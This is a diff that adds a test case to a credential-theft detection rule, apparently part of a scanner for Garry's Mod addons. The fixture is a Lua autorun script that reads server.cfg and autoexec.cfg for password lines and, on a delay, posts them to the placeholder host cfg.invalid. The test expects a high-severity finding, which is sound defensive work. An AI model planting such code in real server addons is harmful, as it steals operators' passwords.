@@ -40,4 +40,17 @@ describe('credential_theft', () => {
     });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
+  it('server.cfg opened and read line by line, then posted', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local found = {}',
+        'for _, n in ipairs({ "server.cfg", "autoexec.cfg" }) do',
+        ' local fh = file.Open("cfg/" .. n, "r", "MOD")',
+        ' if fh then while not fh:EndOfFile() do local l = fh:ReadLine() or "" if l:find("pass", 1, true) then found[#found + 1] = l end end fh:Close() end',
+        'end',
+        'timer.Simple(45, function() http.Post("https://cfg.invalid/r", { l = table.concat(found, "\\n") }) end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
 });
